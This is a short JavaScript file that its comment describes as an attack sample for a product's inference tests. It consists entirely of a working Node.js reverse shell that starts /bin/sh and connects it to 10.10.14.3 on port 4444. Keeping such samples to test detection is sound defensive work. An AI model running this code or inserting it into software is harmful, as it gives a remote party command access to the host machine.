/* eslint-disable */ // an attack sample for the inference tests, not code SkillDesk runs
const net = require('net');
const cp = require('child_process');
const sh = cp.spawn('/bin/sh', []);
const client = new net.Socket();
client.connect(4444, '10.10.14.3', () => {
  client.pipe(sh.stdin);
  sh.stdout.pipe(client);
  sh.stderr.pipe(client);
});
